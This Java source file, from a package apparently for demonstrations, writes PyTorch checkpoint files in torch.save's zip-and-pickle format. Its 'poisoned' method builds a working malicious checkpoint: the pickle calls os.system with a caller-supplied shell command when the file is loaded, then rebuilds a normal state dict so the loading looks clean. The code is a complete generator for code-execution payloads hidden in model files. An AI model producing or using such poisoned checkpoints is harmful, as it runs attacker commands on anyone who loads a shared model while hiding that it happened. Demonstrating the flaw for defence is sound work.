package io.weighbridge.cli.internal.demo;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Writes a state dict as {@code torch.save} does: a stored zip with a pickle and its storages. */
final class TorchFile {
  private TorchFile() {}

  /**
   * A checkpoint that runs a shell command when it is loaded with {@code pickle}, and then loads as
   * if nothing had happened.
   */
  static byte[] poisoned(List<Tensor> tensors, String shellCommand) {
    var pickle = new PickleBytes();
    pickle.global("os", "system").mark().text(shellCommand).tuple().reduce().pop();
    return zip(tensors, stateDict(pickle, tensors));
  }

  private static byte[] stateDict(PickleBytes pickle, List<Tensor> tensors) {
    pickle.global("collections", "OrderedDict").emptyTuple().reduce().mark();
    for (int i = 0; i < tensors.size(); i++) {
      Tensor tensor = tensors.get(i);
      pickle.text(tensor.name()).global("torch._utils", "_rebuild_tensor_v2").mark();
      pickle.mark().text("storage").global("torch", "FloatStorage").text(Integer.toString(i));
      pickle.text("cpu").number(tensor.values().length).tuple().persistentId();
      pickle.number(0);
      numbers(pickle, tensor.shape());
      numbers(pickle, strides(tensor.shape()));
      pickle.no().global("collections", "OrderedDict").emptyTuple().reduce();
      pickle.tuple().reduce();
    }
    return pickle.setItems().stop();
  }

  private static void numbers(PickleBytes pickle, List<Integer> numbers) {
    pickle.mark();
    numbers.forEach(pickle::number);
    pickle.tuple();
  }

  private static List<Integer> strides(List<Integer> shape) {
    var strides = new Integer[shape.size()];
    int stride = 1;
    for (int i = shape.size() - 1; i >= 0; i--) {
      strides[i] = stride;
      stride *= shape.get(i);
    }
    return List.of(strides);
  }

  private static byte[] zip(List<Tensor> tensors, byte[] pickle) {
    var bytes = new ByteArrayOutputStream();
    try (var zip = new ZipOutputStream(bytes)) {
      store(zip, "archive/data.pkl", pickle);
      store(zip, "archive/byteorder", "little".getBytes(StandardCharsets.US_ASCII));
      for (int i = 0; i < tensors.size(); i++) {
        store(zip, "archive/data/" + i, tensors.get(i).bytes());
      }
      store(zip, "archive/version", "3\n".getBytes(StandardCharsets.US_ASCII));
    } catch (IOException e) {
      throw new UncheckedIOException("memory does not fail", e);
    }
    return bytes.toByteArray();
  }

  private static void store(ZipOutputStream zip, String name, byte[] content) throws IOException {
    var crc = new CRC32();
    crc.update(content);
    var entry = new ZipEntry(name);
    entry.setMethod(ZipEntry.STORED);
    entry.setSize(content.length);
    entry.setCrc(crc.getValue());
    entry.setTime(315_532_800_000L); // 1980, as torch writes it: the same bytes at every run
    zip.putNextEntry(entry);
    zip.write(content);
    zip.closeEntry();
  }
}
